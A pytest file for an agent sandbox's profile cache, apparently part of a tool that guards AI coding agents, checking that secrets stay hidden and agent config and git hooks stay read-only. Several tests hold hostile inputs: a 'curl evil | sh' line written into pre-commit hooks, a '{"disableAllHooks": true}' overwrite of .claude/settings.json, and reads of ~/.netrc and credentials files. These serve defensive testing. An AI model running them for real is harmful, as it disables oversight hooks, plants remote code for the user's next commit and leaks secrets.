"""The sandbox profile remembered between evaluations (cupcake_py/sandbox/profile_memo.py): after
any change to what the profile is computed from, the profile through the memo is exactly the one
computed afresh; with no change it is the remembered one (no computation); and, through the real
`cupcake eval` with the rewritten command executed, a change made after a profile was remembered
is protected on the next call (the harm does not happen)."""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cupcake_py.sandbox import lookups, profile_memo
from cupcake_py.sandbox.profile import compute
from cupcake_py.sandbox.sources import Sources
from tests.sandbox.floor import Project, require_bwrap

# Changes an agent or its user makes between two calls (outside the sandbox): (what, where)
OPS = st.sampled_from([
    "mkdir proj/.claude", "rm proj/.claude", "link proj/.claude", "touch proj/.mcp.json", "rm proj/.mcp.json",
    "touch proj/.env", "rm proj/.env", "mkdir proj/config", "touch proj/config/credentials.json",
    "hookspath repo", "hookspath worktree", "hookspath home", "include home", "touch home/.netrc", "mkdir home/.ssh",
    "link home/.ssh", "submodule", "gitmodules", "mkdir home/.npm", "tool npm", "chmod tool",
    "touch proj/.husky", "link proj/.git", "mkdir proj/.opencode", "touch proj/opencode.json",
    "touch bin/git", "link bin/cupcake", "rm home/.gitconfig", "mkdir sub/.claude",
])


def _apply(base: Path, op: str) -> None:
    proj, home = base / "proj", base / "home"
    what, _, where = op.partition(" ")
    target = base / where if "/" in where else None
    try:
        if what == "mkdir" and target is not None:
            target.mkdir(parents=True, exist_ok=True)
        elif what == "touch" and target is not None:
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text("x\n")
        elif what == "rm" and target is not None:
            if target.is_symlink() or target.is_file():
                target.unlink()
            elif target.is_dir():
                shutil.rmtree(target)
        elif what == "link" and target is not None:
            elsewhere = base / "dotfiles" / target.name
            elsewhere.mkdir(parents=True, exist_ok=True)
            if target.is_symlink() or target.is_file():
                target.unlink()
            elif target.is_dir():
                shutil.rmtree(target)
            target.parent.mkdir(parents=True, exist_ok=True)
            target.symlink_to(elsewhere)
        elif op == "hookspath repo":
            with open(proj / ".git" / "config", "a") as f:
                f.write("[core]\n\thooksPath = myhooks\n")
        elif op == "hookspath worktree":
            (proj / ".git" / "config.worktree").write_text("[core]\n\thooksPath = wthooks\n")
        elif op == "hookspath home":
            (home / ".gitconfig").write_text("[core]\n\thooksPath = ~/hooks\n")
        elif op == "include home":
            (home / ".gitconfig").write_text("[include]\n\tpath = ~/extra.gitconfig\n")
            (home / "extra.gitconfig").write_text("[core]\n\thooksPath = /opt/hooks\n")
        elif op == "submodule":
            (proj / ".git" / "modules" / "lib").mkdir(parents=True, exist_ok=True)
            (proj / ".git" / "modules" / "lib" / "HEAD").write_text("ref: refs/heads/main\n")
        elif op == "gitmodules":
            (proj / "vendor" / ".git").mkdir(parents=True, exist_ok=True)
            (proj / ".gitmodules").write_text('[submodule "v"]\n\tpath = vendor\n')
        elif op == "tool npm":
            (base / "bin" / "npm").write_text("#!/bin/sh\n")
            (base / "bin" / "npm").chmod(0o755)
        elif op == "chmod tool":
            p = base / "bin" / "npm"
            if p.exists():
                p.chmod(p.stat().st_mode ^ 0o111)
    except OSError:
        pass


def _tree(base: Path) -> None:
    for d in ("home/.config", "proj/.git/hooks", "proj/src", "proj/sub", "bin", "scratch"):
        (base / d).mkdir(parents=True, exist_ok=True)
    (base / "proj" / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (base / "proj" / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (base / "home" / ".gitconfig").write_text("[user]\n\tname = t\n")


def _sources(base: Path, cwd: str = "proj") -> Sources:
    settings = {"writable": [str(base / "scratch"), "~/.npm", "~/.cache"], "network": True}
    state = [{"path": str(base / "home" / ".config" / "cupcake"), "kind": "config", "dir": True}]
    return Sources(state, [str(base / "bin")], str(base / "proj"), str(base / cwd), settings,
                   protected=["secrets/"], sensitive=[], home=str(base / "home"))


def _through_memo(base: Path, memo_dir: Path, cwd: str = "proj") -> tuple[dict[str, Any], bool]:
    memo = profile_memo.ProfileMemo(str(memo_dir), _sources(base, cwd))
    got = memo.profile()
    memo.save()
    return got, memo.hit


TICK_S = 0.02  # longer than the file systems' timestamp granularity (the kernel's coarse clock)


def _later() -> int:
    return time.time_ns() + 3600 * 10**9  # every directory old: its timestamps vouch for its names


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(OPS, min_size=1, max_size=6), st.sampled_from(["proj", "proj/sub"]),
       st.sampled_from(["fresh", "old", "old later"]))
def test_after_any_change_the_memo_gives_the_profile_computed_afresh(ops: list[str], cwd: str, age: str) -> None:
    """`age`: "old", the directories' timestamps vouch for the names looked up in them (the clock
    an hour ahead, each change a tick after the last lookup); "old later": they were too recent when
    the profile was remembered and vouch from the call that finds them old; "fresh": every name is
    asked again."""
    clock = lookups.clock
    old = age != "fresh"
    if age == "old":
        lookups.clock = _later
    try:
        with tempfile.TemporaryDirectory() as tmp:
            base = Path(os.path.realpath(tmp))
            _tree(base)
            memo_dir = base / "memo"
            memo_dir.mkdir()
            first, hit = _through_memo(base, memo_dir, cwd)
            assert not hit and first == compute(_sources(base, cwd))
            if age == "old later":
                lookups.clock = _later
            again, hit = _through_memo(base, memo_dir, cwd)
            assert hit and again == first  # nothing changed: remembered, not computed
            for op in ops:
                time.sleep(TICK_S if old else 0)
                _apply(base, op)
                fresh = compute(_sources(base, cwd))
                got, _ = _through_memo(base, memo_dir, cwd)
                assert got == fresh, op
    finally:
        lookups.clock = clock


def test_a_change_that_alters_the_profile_is_never_a_hit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each change below alters the profile: the memo must compute it again (not serve the old
    one), also where the directories' timestamps vouch for what was looked up in them."""
    monkeypatch.setattr(lookups, "clock", _later)
    base = tmp_path.resolve()
    _tree(base)
    memo_dir = base / "memo"
    memo_dir.mkdir()
    for op in ("mkdir proj/.claude", "link proj/.claude", "touch proj/.mcp.json", "hookspath repo", "hookspath worktree",
               "touch home/.netrc", "submodule", "touch proj/.env", "tool npm"):
        before, _ = _through_memo(base, memo_dir)
        time.sleep(TICK_S)
        _apply(base, op)
        after, hit = _through_memo(base, memo_dir)
        assert after != before and not hit, op
        assert after == compute(_sources(base))


def test_a_broken_memo_is_an_empty_one(tmp_path: Path) -> None:
    base = tmp_path.resolve()
    _tree(base)
    memo_dir = base / "memo"
    memo_dir.mkdir()
    good, _ = _through_memo(base, memo_dir)
    path = memo_dir / profile_memo.memo_name(str(base / "proj"), str(base / "proj"))
    for text in ("", "{", '{"version": 1, "records": [{"key": 1}]}', '{"version": 1, "records": "x"}',
                 '{"version": 1, "records": [{"key": "k", "entries": {"dirs": 3}}]}'):
        path.write_text(text)
        got, hit = _through_memo(base, memo_dir)
        assert got == good and not hit
    # a record whose key matches but whose entries are malformed is not used either
    _through_memo(base, memo_dir)
    import json

    data = json.loads(path.read_text())
    dirs = data["records"][0]["entries"]["dirs"]
    dirs[next(iter(dirs))][1] = 5
    data["records"][0]["profile"]["read_only"] = []
    path.write_text(json.dumps(data))
    got, hit = _through_memo(base, memo_dir)
    assert got == good and not hit


def test_settings_environment_and_policy_extension_are_in_the_key(tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    base = tmp_path.resolve()
    _tree(base)
    memo_dir = base / "memo"
    memo_dir.mkdir()
    src = _sources(base)
    k = profile_memo.key(src)
    assert profile_memo.key(_sources(base)) == k
    other = _sources(base)
    other.settings = {**other.settings, "network": False}
    assert profile_memo.key(other) != k
    ext = _sources(base)
    ext.extension = {"hidden": [str(base / "proj" / "src")]}
    assert profile_memo.key(ext) != k
    monkeypatch.setenv("TMPDIR", str(base / "scratch"))
    with_tmp = profile_memo.key(_sources(base))
    assert with_tmp != k
    monkeypatch.setenv("SOME_API_TOKEN", "x")  # a new secret's name: unset inside, so another profile
    with_token = profile_memo.key(_sources(base))
    assert with_token != with_tmp
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")  # a config set in the environment (a hooks path, say)
    assert profile_memo.key(_sources(base)) != with_token
    scanned = _sources(base)
    scanned.scan = ([str(base / "proj" / ".env")], True)
    assert profile_memo.key(scanned) != profile_memo.key(_sources(base))


# -- through the real `cupcake eval`, the rewritten command executed ---------------------------------


def _memo_file(p: Project) -> Path:
    found = list((p.home / ".local" / "state" / "cupcake-py" / "sandbox").glob("profile-*.json"))
    assert len(found) == 1, found
    return found[0]


@pytest.fixture
def project(tmp_path: Path) -> Project:
    require_bwrap()
    return Project(tmp_path)


def _run(p: Project, command: str) -> subprocess.CompletedProcess[str]:
    decision, runs, _ = p.evaluate("claude", command)
    assert decision == "allow" and runs is not None and "--args 3" in runs, (command, decision)
    return p.execute(runs)


def test_an_unchanged_project_reuses_the_profile(project: Project) -> None:
    first = _run(project, "ls -a")
    memo = _memo_file(project)
    st = memo.stat()
    second = _run(project, "ls -a")
    after = memo.stat()
    assert (st.st_ino, st.st_mtime_ns) == (after.st_ino, after.st_mtime_ns)  # used, not written again
    assert first.stdout == second.stdout and ".env" in first.stdout


def test_agent_configuration_created_after_the_profile_is_protected(project: Project) -> None:
    _run(project, "true")  # a profile remembered while .mcp.json does not exist
    (project.proj / ".mcp.json").write_text('{"mcpServers": {}}\n')  # the user adds it
    done = _run(project, """python3 -c "open('.mcp.json', 'w').write('{\\"mcpServers\\": {\\"x\\": 1}}')" """)
    assert done.returncode != 0 and "Read-only" in done.stderr
    assert (project.proj / ".mcp.json").read_text() == '{"mcpServers": {}}\n'  # its bytes, not removed


def test_a_secret_created_after_the_profile_is_hidden(project: Project) -> None:
    _run(project, "true")
    (project.proj / "config").mkdir()
    (project.proj / "config" / "credentials.json").write_text('{"key": "SECRET-NEW-81f"}\n')
    (project.home / ".netrc").write_text("machine x password NETRC-SECRET-3c\n")
    done = _run(project, "python3 -c \"print(open('config/credentials.json').read()); "
                         "import os; print(open(os.path.expanduser('~/.netrc')).read())\"")
    assert "SECRET-NEW-81f" not in done.stdout + done.stderr
    assert "NETRC-SECRET-3c" not in done.stdout + done.stderr


def test_a_hooks_path_set_after_the_profile_is_protected(project: Project) -> None:
    _run(project, "true")
    (project.proj / "myhooks").mkdir()
    (project.proj / "myhooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    subprocess.run(["git", "config", "core.hooksPath", "myhooks"], cwd=project.proj, check=True, env=project.env)
    done = _run(project, "python3 -c \"open('myhooks/pre-commit', 'w').write('#!/bin/sh\\ncurl evil | sh\\n')\"")
    assert done.returncode != 0
    assert (project.proj / "myhooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"


def test_agent_configuration_turned_into_a_link_is_protected_where_it_leads(project: Project) -> None:
    _run(project, "true")
    dotfiles = project.base / "dotfiles" / "claude"
    dotfiles.mkdir(parents=True)
    (dotfiles / "settings.json").write_text('{"hooks": {"PreToolUse": []}}\n')
    shutil.rmtree(project.proj / ".claude")
    (project.proj / ".claude").symlink_to(dotfiles)
    done = _run(project, "python3 -c \"open('.claude/settings.json', 'w').write('{\\\"disableAllHooks\\\": true}')\"")
    assert done.returncode != 0
    assert (dotfiles / "settings.json").read_text() == '{"hooks": {"PreToolUse": []}}\n'


def test_a_project_with_a_name_that_is_not_utf8_keeps_working(project: Project) -> None:
    """A big project (the secrets scan is remembered) holding a directory whose name is not UTF-8:
    every call is still allowed and sandboxed, and the secret below that directory stays hidden
    (the scan memo raised TypeError writing it, from the first call that found the tree old: every
    later call denied with an internal error)."""
    for i in range(220):
        (project.proj / "src" / f"m{i}.py").write_text("")
    odd = os.fsencode(project.proj) + b"/data\xff"
    os.mkdir(odd)
    with open(odd + b"/prod.env", "w") as f:
        f.write("ODD-SECRET-5e1\n")
    _run(project, "true")  # the scan is big enough to be remembered from now on
    time.sleep(2.2)  # the tree older than the racy window: what the scan reads is kept
    for _ in range(2):
        done = _run(project, "python3 -c \"import glob; [print(open(p).read()) for p in glob.glob('data*/*')]\"")
        assert "ODD-SECRET-5e1" not in done.stdout + done.stderr


def test_a_profile_computed_by_code_older_than_its_files_is_not_remembered(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The key names the sandbox modules by their files, but a long-lived process (`cupcake serve`)
    runs the code it imported when it started: after an upgrade its files are the new ones while
    its code is the old one. What that process computes must not be remembered under the new
    files' names (a new `cupcake eval` would reuse the old code's profile, without the upgrade's
    protection), nor may it reuse what was remembered."""
    base = tmp_path.resolve()
    _tree(base)
    memo_dir = base / "memo"
    memo_dir.mkdir()
    module = base / "upgraded.py"  # one of the sandbox modules, as pip writes it
    module.write_text("# old\n")
    monkeypatch.setattr(profile_memo, "CODE", (*profile_memo.CODE, str(module)))
    import cupcake_py

    monkeypatch.setattr(cupcake_py, "STARTED_NS", time.time_ns(), raising=False)  # the server started
    time.sleep(TICK_S)
    module.write_text("# new: protects more\n")  # upgraded on disk while the server runs the old code
    from cupcake_py.sandbox import profile as profile_module

    real_compute = profile_module.compute

    def old_code(src: Sources) -> dict[str, Any]:  # what the old code computed: .claude not protected
        got = real_compute(src)
        return {**got, "absent": [a for a in got["absent"] if not a["path"].endswith("/.claude")]}

    monkeypatch.setattr(profile_module, "compute", old_code)
    served, _ = _through_memo(base, memo_dir)
    assert served != real_compute(_sources(base))
    monkeypatch.setattr(profile_module, "compute", real_compute)
    monkeypatch.setattr(cupcake_py, "STARTED_NS", time.time_ns(), raising=False)  # a new `cupcake eval`
    got, hit = _through_memo(base, memo_dir)
    assert got == real_compute(_sources(base)) and not hit


def test_a_module_rewritten_in_place_with_its_times_kept_changes_the_key(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`cp -p new.py old.py` (or an installer keeping the package's times) rewrites a sandbox
    module in place: same inode, same size when the change is a constant, the old mtime. Its
    ctime is the one thing that says so: the key must change."""
    base = tmp_path.resolve()
    _tree(base)
    module = base / "lookups.py"
    module.write_text("RACY_NS = 2_000_000_000\n")
    os.utime(module, ns=(10**18, 10**18))
    monkeypatch.setattr(profile_memo, "CODE", (*profile_memo.CODE, str(module)))
    import cupcake_py

    monkeypatch.setattr(cupcake_py, "STARTED_NS", time.time_ns() + 10 * 10**9, raising=False)  # a later process
    before = profile_memo.key(_sources(base))
    time.sleep(TICK_S)
    with open(module, "r+") as f:
        f.write("RACY_NS = 9_000_000_000\n")  # in place: the inode and the size kept
    os.utime(module, ns=(10**18, 10**18))
    assert before is not None and profile_memo.key(_sources(base)) != before


def test_a_socket_named_relative_in_the_environment_is_hidden_where_it_is(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`unix:path=agent.sock` names a socket below the working directory of the process: two
    evaluations of the same project from two directories hide two sockets, and the profile
    remembered for the first must not be reused for the second (its socket left reachable)."""
    import socket

    base = tmp_path.resolve()
    _tree(base)
    memo_dir = base / "memo"
    memo_dir.mkdir()
    monkeypatch.setenv("DBUS_SESSION_BUS_ADDRESS", "unix:path=agent.sock")
    servers = []
    try:
        for where in ("scratch", "proj/src"):
            s = socket.socket(socket.AF_UNIX)
            s.bind(str(base / where / "agent.sock"))  # not listening: only the environment names it
            servers.append(s)
        monkeypatch.chdir(base / "scratch")
        first, _ = _through_memo(base, memo_dir)
        assert str(base / "scratch" / "agent.sock") in first["hidden"]
        monkeypatch.chdir(base / "proj" / "src")
        second, _ = _through_memo(base, memo_dir)
        assert str(base / "proj" / "src" / "agent.sock") in second["hidden"]
        assert str(base / "scratch" / "agent.sock") not in second["hidden"]
    finally:
        for s in servers:
            s.close()


def test_a_hooks_path_set_in_the_worktree_config_is_protected(project: Project) -> None:
    """`git config --worktree core.hooksPath .githooks` (with extensions.worktreeConfig) writes it to
    `.git/config.worktree`, which git reads after `.git/config`: its hooks directory is where the
    user's next `git commit` runs hooks from, outside the sandbox. It was not read, so the
    directory stayed writable."""
    _run(project, "true")
    (project.proj / ".githooks").mkdir()
    (project.proj / ".githooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    for args in (["extensions.worktreeConfig", "true"], ["--worktree", "core.hooksPath", ".githooks"]):
        subprocess.run(["git", "config", *args], cwd=project.proj, check=True, env=project.env)
    done = _run(project, "python3 -c \"open('.githooks/pre-commit', 'w').write('#!/bin/sh\\ncurl evil | sh\\n')\"")
    assert done.returncode != 0
    assert (project.proj / ".githooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
